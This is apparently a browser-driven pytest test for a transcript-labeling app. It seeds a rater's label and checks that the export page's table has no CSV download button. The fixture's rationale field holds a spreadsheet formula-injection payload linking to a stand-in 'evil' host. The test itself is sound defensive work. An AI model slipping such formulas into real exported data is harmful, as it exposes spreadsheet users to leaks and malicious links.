"""Tables offer no raw CSV download (issue 14, point 7): `st.dataframe`'s toolbar has a
"Download as CSV" that would write a rationale `=HYPERLINK(…)` raw; Goldset turns it off
app-wide (`client.disableDataExport`), also when the server was started with it off."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from labels.models import Label, Rater, Record
from labels.workspace import open_workspace
from tests.e2e.conftest import Server, _need_browser, start_server
from tests.factories import make_transcript

pytestmark = [pytest.mark.e2e, pytest.mark.slow]
WAIT = 30_000
FORMULA = '=HYPERLINK("http://evil/?x","y")'


@pytest.fixture(params=["config", "option off"])
def server(tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Server]:
    _need_browser()
    ws = open_workspace(tmp_path / "t.duckdb")
    ws.store.ingest_file("t.jsonl", "jsonl", [Record(transcript=make_transcript("case-1"))])
    ws.store.upsert_rater(Rater(id="dana", name="Dana Levi", role="adjudicator"))
    label = Label(
        transcript_id="case-1",
        rater="dana",
        dimension="extortion",
        value="none",
        rationale=FORMULA,
        schema_version=ws.schema_version,
    )
    ws.store.add_labels([label])
    ws.store.close()
    env = {"STREAMLIT_CLIENT_DISABLE_DATA_EXPORT": "false"} if request.param != "config" else {}
    server = start_server(tmp_path / "t.duckdb", env)
    yield server
    server.stop()


def test_a_table_showing_rationales_has_no_csv_download(server: Server, browser: Any) -> None:
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.goto(server.url + "/export")
    page.locator("[data-testid=stSelectbox]").first.click()
    page.get_by_role("option", name="Dana Levi · adjudicator").click()
    page.get_by_text("labels", exact=True).click()  # the raw labels, rationales and all
    table = page.locator("[data-testid=stDataFrame]").first
    table.wait_for(timeout=WAIT)
    page.wait_for_function(
        "() => document.querySelector('[data-testid=stDataFrame]') "
        "&& document.body.innerText.includes('1 rows')",
        timeout=WAIT,
    )
    table.hover()
    toolbar = page.locator("[data-testid=stElementToolbar]").first
    toolbar.get_by_role("button", name="Search").wait_for(timeout=WAIT)  # the toolbar is there
    assert toolbar.get_by_role("button", name="Download as CSV").count() == 0
    page.close()
